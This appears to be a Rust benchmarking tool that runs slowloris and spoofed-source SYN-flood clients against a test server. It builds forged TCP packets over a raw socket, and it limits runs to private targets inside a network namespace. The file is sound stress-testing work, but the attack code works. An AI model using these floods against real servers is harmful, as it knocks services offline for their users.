//! The hostile clients of `benches/soak.sh`, run beside the legitimate load:
//!
//! - `attack slowloris`: N connections that each send a request line, then trickle header
//!   bytes one at a time and never finish the header; a connection the server closes is
//!   opened again, so the pressure stays at N for the whole run;
//! - `attack syn-flood`: TCP SYNs at a fixed rate from forged sources in 198.18.0.0/15
//!   (the benchmarking range, routed nowhere: the server's SYN-ACKs go unanswered), through
//!   a raw socket.
//!
//! Both are bounded in count and time (at most [`MAX_CONNECTIONS`] connections,
//! [`MAX_RATE`] SYNs a second, [`MAX_SECONDS`] seconds), address only private IPv4
//! targets, and run only inside a namespace `ip netns` made (never the host's): the script
//! starts them with `ip netns exec` inside the namespace it creates. Each prints one summary line.
#![forbid(unsafe_code)]

use std::io::Write;
use std::net::{Ipv4Addr, SocketAddr, SocketAddrV4, TcpStream};
use std::os::unix::fs::MetadataExt;
use std::process::ExitCode;
use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering};
use std::time::{Duration, Instant};

use clap::{Parser, Subcommand};
use etherparse::{PacketBuilder, TcpOptionElement};
use rustix::net::{AddressFamily, SendFlags, SocketType, ipproto};

const MAX_CONNECTIONS: usize = 2_000;
const MAX_RATE: u32 = 20_000;
const MAX_SECONDS: u64 = 3_600;

#[derive(Parser, Debug)]
#[command(about = "Hostile HTTP clients for benches/soak.sh, bounded in count and time")]
struct Cli {
    #[command(subcommand)]
    attack: Attack,
}

#[derive(Subcommand, Debug)]
enum Attack {
    /// Connections that trickle header bytes and never finish a request.
    Slowloris {
        /// The server, e.g. 10.0.2.15:80.
        #[arg(long)]
        target: SocketAddrV4,
        #[arg(long, default_value_t = 200)]
        connections: usize,
        /// How long to keep the connections up.
        #[arg(long)]
        seconds: u64,
        /// The pause between two trickled bytes on one connection.
        #[arg(long, default_value_t = 1000)]
        interval_ms: u64,
    },
    /// Spoofed TCP SYNs at a fixed rate.
    SynFlood {
        #[arg(long)]
        target: SocketAddrV4,
        /// SYNs per second.
        #[arg(long, default_value_t = 200)]
        rate: u32,
        #[arg(long)]
        seconds: u64,
    },
}

fn main() -> ExitCode {
    let cli = Cli::parse();
    let (target, seconds) = match &cli.attack {
        Attack::Slowloris {
            target, seconds, ..
        }
        | Attack::SynFlood {
            target, seconds, ..
        } => (*target, *seconds),
    };
    if let Err(refusal) = check_bounds(&cli.attack, target, seconds) {
        eprintln!("attack: {refusal}");
        return ExitCode::from(2);
    }
    let duration = Duration::from_secs(seconds);
    match cli.attack {
        Attack::Slowloris {
            connections,
            interval_ms,
            ..
        } => {
            let counts = slowloris(
                target,
                connections,
                duration,
                Duration::from_millis(interval_ms),
            );
            println!(
                "slowloris: {connections} connections for {seconds} s: {} opened ({} again after the server closed one), {} refused or timed out, {} header bytes trickled",
                counts.opened.load(Ordering::Relaxed),
                counts.closed_by_server.load(Ordering::Relaxed),
                counts.failed.load(Ordering::Relaxed),
                counts.bytes.load(Ordering::Relaxed),
            );
        }
        Attack::SynFlood { rate, .. } => match syn_flood(target, rate, duration) {
            Ok((sent, dropped)) => println!(
                "syn-flood: {sent} spoofed SYNs at {rate}/s for {seconds} s from 198.18.0.0/15 ({dropped} not sent: the host's queue was full)"
            ),
            Err(err) => {
                eprintln!("attack: syn-flood: {err}");
                return ExitCode::FAILURE;
            }
        },
    }
    ExitCode::SUCCESS
}

/// The limits every run stays within, and where it may run.
fn check_bounds(attack: &Attack, target: SocketAddrV4, seconds: u64) -> Result<(), String> {
    if !target.ip().is_private() {
        return Err(format!(
            "{} is not a private address: the target must be a guest behind a tap",
            target.ip()
        ));
    }
    if seconds == 0 || seconds > MAX_SECONDS {
        return Err(format!("--seconds must be 1..={MAX_SECONDS}"));
    }
    match *attack {
        Attack::Slowloris { connections, .. }
            if connections == 0 || connections > MAX_CONNECTIONS =>
        {
            return Err(format!("--connections must be 1..={MAX_CONNECTIONS}"));
        }
        Attack::SynFlood { rate, .. } if rate == 0 || rate > MAX_RATE => {
            return Err(format!("--rate must be 1..={MAX_RATE}"));
        }
        _ => {}
    }
    if !in_named_namespace() {
        return Err(
            "runs only inside a network namespace of its own (ip netns exec ...), not the host's"
                .into(),
        );
    }
    Ok(())
}

/// Whether this process runs in a network namespace `ip netns` made (one of the names in
/// /run/netns), not in the host's.
fn in_named_namespace() -> bool {
    let id = |path: &std::path::Path| std::fs::metadata(path).map(|meta| (meta.dev(), meta.ino()));
    let Ok(own) = id("/proc/self/ns/net".as_ref()) else {
        return false;
    };
    std::fs::read_dir("/run/netns").is_ok_and(|names| {
        names
            .flatten()
            .any(|name| id(&name.path()).is_ok_and(|named| named == own))
    })
}

#[derive(Debug, Default)]
struct SlowlorisCounts {
    opened: AtomicU64,
    closed_by_server: AtomicU64,
    failed: AtomicU64,
    bytes: AtomicU64,
}

/// Keeps `connections` slow connections open on `target` until `duration` has passed.
fn slowloris(
    target: SocketAddrV4,
    connections: usize,
    duration: Duration,
    interval: Duration,
) -> Arc<SlowlorisCounts> {
    let counts = Arc::new(SlowlorisCounts::default());
    let deadline = Instant::now() + duration;
    let threads: Vec<_> = (0..connections)
        .map(|index| {
            let counts = Arc::clone(&counts);
            // Spread the connections' bytes over the interval rather than in bursts.
            let offset = interval.mul_f64(index as f64 / connections as f64);
            std::thread::Builder::new()
                .name(format!("slow-{index}"))
                .stack_size(64 * 1024)
                .spawn(move || {
                    std::thread::sleep(offset);
                    slow_connection(SocketAddr::V4(target), deadline, interval, &counts);
                })
                .expect("a slowloris thread starts")
        })
        .collect();
    for thread in threads {
        let _ = thread.join();
    }
    counts
}

/// One slow client until `deadline`: connect, send a request line, then one header byte
/// per `interval`; when the server closes, connect again.
fn slow_connection(
    target: SocketAddr,
    deadline: Instant,
    interval: Duration,
    counts: &SlowlorisCounts,
) {
    const HEADER: &[u8] = b"X-Slow: aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\r\n";
    let mut first = true;
    while Instant::now() < deadline {
        let stream = match TcpStream::connect_timeout(&target, Duration::from_secs(5)) {
            Ok(stream) => stream,
            Err(_) => {
                counts.failed.fetch_add(1, Ordering::Relaxed);
                std::thread::sleep(interval);
                continue;
            }
        };
        counts.opened.fetch_add(1, Ordering::Relaxed);
        if !first {
            counts.closed_by_server.fetch_add(1, Ordering::Relaxed);
        }
        first = false;
        let _ = stream.set_write_timeout(Some(Duration::from_secs(5)));
        let mut stream = stream;
        if stream
            .write_all(b"GET / HTTP/1.1\r\nHost: 10.0.2.15\r\n")
            .is_err()
        {
            continue;
        }
        // A write fails once the server has closed (its RST answers the byte after its FIN).
        for &byte in HEADER.iter().cycle() {
            if Instant::now() >= deadline {
                return;
            }
            std::thread::sleep(interval);
            if stream.write_all(&[byte]).is_err() {
                break;
            }
            counts.bytes.fetch_add(1, Ordering::Relaxed);
        }
    }
}

/// Sends SYNs from forged sources at `rate` a second for `duration`; returns how many
/// were sent and how many the host could not queue.
fn syn_flood(target: SocketAddrV4, rate: u32, duration: Duration) -> Result<(u64, u64), String> {
    let socket = rustix::net::socket(AddressFamily::INET, SocketType::RAW, Some(ipproto::RAW))
        .map_err(|err| format!("a raw socket (needs root): {err}"))?;
    // Sent in batches every 10 ms: an even rate without a timer per packet.
    const TICK: Duration = Duration::from_millis(10);
    let per_tick = f64::from(rate) * TICK.as_secs_f64();
    let start = Instant::now();
    let (mut sent, mut dropped, mut owed) = (0u64, 0u64, 0.0f64);
    let mut next = start;
    while start.elapsed() < duration {
        owed += per_tick;
        while owed >= 1.0 {
            owed -= 1.0;
            let packet = syn_packet(sent + dropped, target)?;
            // The kernel fills in nothing but the IP checksum and id (IPPROTO_RAW implies
            // a header of our own).
            match rustix::net::sendto(&socket, &packet, SendFlags::empty(), &target) {
                Ok(_) => sent += 1,
                Err(rustix::io::Errno::NOBUFS) => dropped += 1,
                Err(err) => return Err(format!("sendto: {err}")),
            }
        }
        next += TICK;
        std::thread::sleep(next.saturating_duration_since(Instant::now()));
    }
    Ok((sent, dropped))
}

/// The `n`th SYN: source address and port walk 198.18.0.0/15 and the ephemeral range, so
/// every one looks like a new client.
fn syn_packet(n: u64, target: SocketAddrV4) -> Result<Vec<u8>, String> {
    let host = (n % (1 << 17)) as u32;
    let source = Ipv4Addr::from(u32::from(Ipv4Addr::new(198, 18, 0, 0)) | host);
    let port = 20_000 + (n % 40_000) as u16;
    let sequence = (n as u32).wrapping_mul(0x9e37_79b9);
    let builder = PacketBuilder::ipv4(source.octets(), target.ip().octets(), 64)
        .tcp(port, target.port(), sequence, 64_240)
        .syn()
        .options(&[TcpOptionElement::MaximumSegmentSize(1460)])
        .map_err(|err| format!("TCP options: {err}"))?;
    let mut packet = Vec::with_capacity(builder.size(0));
    builder
        .write(&mut packet, &[])
        .map_err(|err| format!("building a SYN: {err}"))?;
    Ok(packet)
}

#[cfg(test)]
mod tests {
    use super::*;
    use etherparse::{NetSlice, SlicedPacket, TransportSlice};

    #[test]
    fn a_syn_is_a_valid_ipv4_tcp_syn_from_the_benchmarking_range() {
        let target = SocketAddrV4::new(Ipv4Addr::new(10, 0, 2, 15), 80);
        for n in [0, 1, 70_000, 1 << 20] {
            let packet = syn_packet(n, target).unwrap();
            let sliced = SlicedPacket::from_ip(&packet).unwrap();
            let Some(NetSlice::Ipv4(ip)) = sliced.net else {
                panic!("not IPv4")
            };
            let header = ip.header();
            assert_eq!(header.destination_addr(), *target.ip());
            let source = header.source_addr();
            assert_eq!(
                u32::from(source) >> 17,
                u32::from(Ipv4Addr::new(198, 18, 0, 0)) >> 17
            );
            let Some(TransportSlice::Tcp(tcp)) = sliced.transport else {
                panic!("not TCP")
            };
            assert!(tcp.syn() && !tcp.ack() && !tcp.rst());
            assert_eq!(tcp.destination_port(), 80);
            let checksum = tcp
                .to_header()
                .calc_checksum_ipv4(&header.to_header(), &[])
                .unwrap();
            assert_eq!(tcp.checksum(), checksum, "the TCP checksum is right");
        }
    }

    #[test]
    fn sources_differ_from_one_syn_to_the_next() {
        let target = SocketAddrV4::new(Ipv4Addr::new(10, 0, 2, 15), 80);
        let sources: std::collections::HashSet<_> = (0..1000)
            .map(|n| syn_packet(n, target).unwrap()[12..16].to_vec())
            .collect();
        assert_eq!(sources.len(), 1000);
    }

    #[test]
    fn runs_outside_the_bounds_are_refused() {
        let public = SocketAddrV4::new(Ipv4Addr::new(8, 8, 8, 8), 80);
        let private = SocketAddrV4::new(Ipv4Addr::new(10, 0, 2, 15), 80);
        let flood = |rate| Attack::SynFlood {
            target: private,
            rate,
            seconds: 10,
        };
        assert!(
            check_bounds(&flood(100), public, 10)
                .unwrap_err()
                .contains("private")
        );
        assert!(
            check_bounds(&flood(100), private, 0)
                .unwrap_err()
                .contains("--seconds")
        );
        assert!(
            check_bounds(&flood(100), private, MAX_SECONDS + 1)
                .unwrap_err()
                .contains("--seconds")
        );
        assert!(
            check_bounds(&flood(MAX_RATE + 1), private, 10)
                .unwrap_err()
                .contains("--rate")
        );
        let loris = Attack::Slowloris {
            target: private,
            connections: MAX_CONNECTIONS + 1,
            seconds: 10,
            interval_ms: 1000,
        };
        assert!(
            check_bounds(&loris, private, 10)
                .unwrap_err()
                .contains("--connections")
        );
        if !in_named_namespace() {
            let refusal = check_bounds(&flood(100), private, 10).unwrap_err();
            assert!(refusal.contains("namespace"), "{refusal}");
        }
    }
}
